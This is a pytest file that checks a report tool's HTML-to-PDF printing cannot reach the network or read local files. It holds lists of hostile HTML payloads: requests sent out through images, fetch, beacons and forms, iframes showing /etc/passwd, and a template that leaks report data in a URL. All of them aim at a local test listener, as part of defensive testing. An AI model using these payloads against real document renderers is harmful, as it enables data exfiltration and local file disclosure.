"""A printed report reads no local file and reaches no network, whatever its template writes.

Each hostile page below is printed by pa (html_to_pdf, which every `--format pdf` goes through)
while an HTTP server of the test listens on 127.0.0.1. The page tries one way out: a request to
that listener, or a local file (/etc/passwd, a canary file of the test, a folder listing) shown
in the page. The test asserts that the listener saw no request and no connection, and that the
PDF's text (pdftotext) holds no line of /etc/passwd and no canary. The pages carry no
Content-Security-Policy of their own: as a template without pa's base, or with text before
`{% extends %}`, makes them. The end-to-end tests do the same through `pa report` with such
templates; a template that replaces pa's base is refused (test_report_sandbox.py).
"""

from __future__ import annotations

import http.server
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from pa_cli.report.pdf import html_to_pdf, run_chromium

pytestmark = pytest.mark.browser

PEIL = ("--peildatum", "2023-04-01", "--sinds", "2022-10-01")
# the page's own words, printed around the hostile part: the PDF is the page
BEGIN, EIND = "Beginregel van de pagina", "Eindregel van de pagina"
LEAK = "LEKTEKST-van-de-luisteraar"
CANARY = "KANARIE-7f3e9a"  # in each canary file, and the name of the file in the canary folder

# One way out each. {net} is http://127.0.0.1:PORT of the listener, {port} its port; {canary},
# {svg}, {css} and {folder} are file:// URLs of the test's canary files and canary folder.
NETWORK = {
    "img": '<img src="{net}/img" alt="">',
    "img-srcset": '<img srcset="{net}/srcset 1x" alt="">',
    "picture-source": '<picture><source srcset="{net}/picture"><img alt=""></picture>',
    "input-image": '<input type="image" src="{net}/input-image" alt="">',
    "iframe": '<iframe src="{net}/iframe"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<img src=&quot;{net}/srcdoc&quot;>"></iframe>',
    "object": '<object data="{net}/object"></object>',
    "embed": '<embed src="{net}/embed">',
    "link-stylesheet": '<link rel="stylesheet" href="{net}/stylesheet">',
    "css-import": '<style>@import url("{net}/import");</style>',
    "css-url": '<style>body {{ background: url("{net}/css-url") }}</style>',
    "style-attribute": '<p style="background-image: url(\'{net}/style-attr\')">x</p>',
    "font-face": ('<style>@font-face {{ font-family: Lek; src: url("{net}/font") }} '
                  "p {{ font-family: Lek }}</style>"),
    "script-src": '<script src="{net}/script"></script>',
    "fetch": '<script>fetch("{net}/fetch")</script>',
    "xhr": ('<script>const x = new XMLHttpRequest(); x.open("GET", "{net}/xhr", false); '
            "x.send()</script>"),
    "websocket": '<script>new WebSocket("ws://127.0.0.1:{port}/websocket")</script>',
    "eventsource": '<script>new EventSource("{net}/eventsource")</script>',
    "send-beacon": '<script>navigator.sendBeacon("{net}/beacon", "geheim")</script>',
    "script-navigation": '<script>location.href = "{net}/location"</script>',
    "form-autosubmit": ('<form action="{net}/form" method="post"><input name="x" value="geheim">'
                        "</form><script>document.forms[0].submit()</script>"),
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={net}/refresh">',
    "prefetch": '<link rel="prefetch" href="{net}/prefetch">',
    "preload": '<link rel="preload" as="image" href="{net}/preload">',
    "preconnect": '<link rel="preconnect" href="{net}">',
    "video-poster": '<video poster="{net}/poster"></video>',
    "video-src": '<video src="{net}/video" preload="auto"></video>',
    "audio-src": '<audio src="{net}/audio" preload="auto"></audio>',
    "svg-image": ('<svg width="20" height="20"><image href="{net}/svg-image" width="20" '
                  'height="20"/></svg>'),
    "base-href": '<base href="{net}/base/"><img src="beeld.png" alt="">',
    "localhost": '<img src="http://localhost:{port}/localhost" alt="">',
}
LOCAL = {
    "iframe-passwd": '<iframe src="file:///etc/passwd" width="600" height="400"></iframe>',
    "object-passwd": '<object data="file:///etc/passwd" width="600" height="400"></object>',
    "embed-passwd": '<embed src="file:///etc/passwd" width="600" height="400">',
    "iframe-canary": '<iframe src="{canary}" width="600" height="200"></iframe>',
    "object-canary": '<object data="{canary}" width="600" height="200"></object>',
    "embed-canary": '<embed src="{canary}" width="600" height="200">',
    "iframe-folder": '<iframe src="{folder}" width="600" height="400"></iframe>',
    "object-folder": '<object data="{folder}" width="600" height="400"></object>',
    "embed-folder": '<embed src="{folder}" width="600" height="400">',
    "img-svg": '<img src="{svg}" alt="">',
    "link-stylesheet-file": '<link rel="stylesheet" href="{css}">',
    "css-import-file": '<style>@import url("{css}");</style>',
    "base-href-file": '<base href="{folder}"><iframe src="{name}" width="600"></iframe>',
    "meta-refresh-passwd": '<meta http-equiv="refresh" content="0; url=file:///etc/passwd">',
}


class Listener:
    """An HTTP server on 127.0.0.1 that answers everything and notes every connection."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.connections = 0
        seen = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self) -> None:
                seen.requests.append(f"{self.command} {self.path}")
                body = f"<p>{LEAK}</p>".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = answer

            def log_message(self, format: str, *args: object) -> None:
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request: object, client_address: object) -> bool:
                seen.connections += 1  # also a connection that never sends a request
                return True

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def heard(self) -> tuple[list[str], int]:
        heard = (list(self.requests), self.connections)
        self.requests.clear()
        self.connections = 0
        return heard


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture(scope="module")
def places(tmp_path_factory, listener: Listener) -> dict[str, str]:
    """What fills in a hostile page: the listener's address and the canary files' URLs."""
    root = tmp_path_factory.mktemp("kanarie")
    (root / "kanarie.txt").write_text(f"{CANARY}\n", encoding="utf-8")
    (root / "kanarie.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40">'
        f'<text x="0" y="20">{CANARY}</text></svg>', encoding="utf-8")
    (root / "kanarie.css").write_text(f'body::after {{ content: "{CANARY}" }}\n',
                                      encoding="utf-8")
    folder = root / "map"
    folder.mkdir()
    (folder / f"{CANARY}.txt").write_text(f"{CANARY}\n", encoding="utf-8")
    return {"net": f"http://127.0.0.1:{listener.port}", "port": str(listener.port),
            "canary": (root / "kanarie.txt").as_uri(), "svg": (root / "kanarie.svg").as_uri(),
            "css": (root / "kanarie.css").as_uri(), "folder": folder.as_uri() + "/",
            "name": f"{CANARY}.txt"}


def _page(way: str, places: dict[str, str]) -> str:
    """A whole page without a policy of its own, the hostile part between two lines of text."""
    return (f"<!DOCTYPE html><html><head><title>t</title></head><body><p>{BEGIN}</p>"
            f"{way.format(**places)}<p>{EIND}</p></body></html>")


def _text(pdf: bytes, tmp_path: Path, pdftotext: str) -> str:
    path = tmp_path / "rapport.pdf"
    path.write_bytes(pdf)
    return subprocess.run([pdftotext, str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def _secrets() -> list[str]:
    """What must not be in a PDF: the canary, and each line of /etc/passwd up to its uid."""
    lines = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").splitlines()
    return [CANARY, *(":".join(ln.split(":")[:3]) for ln in lines if ln.count(":") >= 3)]


def _leaks(text: str) -> list[str]:
    return [s for s in [LEAK, *_secrets()] if s in text]


@pytest.mark.parametrize("name", [*NETWORK, *LOCAL])
def test_a_printed_page_reaches_nothing_outside_itself(name, places, listener, tmp_path,
                                                       chromium, pdftotext):
    """However the page tries, the listener hears nothing and no local file is in the PDF."""
    listener.heard()
    pdf = html_to_pdf(_page({**NETWORK, **LOCAL}[name], places))
    text = _text(pdf, tmp_path, pdftotext)
    assert listener.heard() == ([], 0)
    assert _leaks(text) == []
    if "refresh" not in name:  # a page that navigates away may print the page it went to
        assert BEGIN in text and EIND in text


def test_the_listener_and_the_canary_see_a_page_that_is_not_kept_in(places, listener,
                                                                    tmp_path, chromium,
                                                                    pdftotext):
    """Not blind: the same pages opened as pa opened them before (a file:// page, no policy,
    scripts on) are heard by the listener and print the canary and /etc/passwd."""
    ways = [NETWORK["img"], NETWORK["fetch"], NETWORK["iframe"], LOCAL["iframe-passwd"],
            LOCAL["embed-canary"], LOCAL["iframe-folder"]]
    page = tmp_path / "open.html"
    page.write_text(_page("".join(ways), places), encoding="utf-8")
    listener.heard()
    pdf = tmp_path / "open.pdf"
    run_chromium([f"--user-data-dir={tmp_path / 'profiel'}", "--no-pdf-header-footer",
                  f"--print-to-pdf={pdf}", page.as_uri()])
    text = _text(pdf.read_bytes(), tmp_path, pdftotext)
    requests, connections = listener.heard()
    assert {"GET /img", "GET /fetch", "GET /iframe"} <= set(requests) and connections >= 3
    leaks = _leaks(text)
    assert LEAK in leaks and CANARY in leaks and any(s.startswith("root:") for s in leaks)


RAN = "SCRIPT-LIEP"
SCRIPTS = {
    "inline": f"<script>document.write('{RAN}')</script>",
    "event-handler": f'<img src="data:," alt="" onerror="document.body.append(\'{RAN}\')">',
    "svg-script": f"<svg><script>document.documentElement.append('{RAN}')</script></svg>",
    "javascript-url": f"<iframe src=\"javascript:'{RAN}'\"></iframe>",
    "own-policy": ('<meta http-equiv="Content-Security-Policy" content="script-src '
                   f"'unsafe-inline'\"><script>document.write('{RAN}')</script>"),
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_no_script_runs_in_a_printed_page(name, tmp_path, chromium, pdftotext):
    """A script in the page does not run, also not when the page's own policy allows it."""
    text = _text(html_to_pdf(_page(SCRIPTS[name], {})), tmp_path, pdftotext)
    assert RAN not in text and BEGIN in text and EIND in text


# -- through pa report, with a werkgroep's own template ------------------------------------------

# a template that puts report data (the titel, the first actie's trekker) in the URL of a request
_STEAL = ('<img src="{net}/gegevens?titel={{{{ titel|urlencode }}}}&trekker='
          '{{{{ (acties|first).trekker|join(" ")|urlencode }}}}" alt="">'
          '<iframe src="file:///etc/passwd" width="600" height="400"></iframe>'
          '<embed src="{folder}" width="600" height="400">'
          '<link rel="stylesheet" href="{net}/stylesheet">'
          '<script>fetch("{net}/fetch?" + document.body.innerText)</script>')


@pytest.mark.parametrize("template", [
    # no base at all: no policy in the page
    "{{# beschrijving: lek #}}<!DOCTYPE html><title>lek</title><p>" + BEGIN + "</p>" + _STEAL,
    # text before {{% extends %}}: it comes before the base's policy
    _STEAL + '{{% extends "base.html.j2" %}}{{% set kop = "lek" %}}'
    "{{% block inhoud %}}<p>" + BEGIN + "</p>{{% endblock %}}",
], ids=["zonder-basis", "tekst-voor-extends"])
def test_a_template_from_a_pull_request_prints_without_reaching_out(run, ws, tmp_path, places,
                                                                    listener, chromium,
                                                                    pdftotext, template):
    """pa report with a hostile templates/lek.html.j2 beside the data: a PDF with the
    template's own text, no request heard, no local file in it."""
    own = tmp_path / "templates"
    own.mkdir()
    (own / "lek.html.j2").write_text(template.format(**places), encoding="utf-8")
    listener.heard()
    out = tmp_path / "lek.pdf"
    r = run("report", "lek", "--format", "pdf", *PEIL, "-o", str(out))
    assert r.code == 0, r.err
    text = _text(out.read_bytes(), tmp_path, pdftotext)
    assert listener.heard() == ([], 0)
    assert _leaks(text) == [] and BEGIN in text
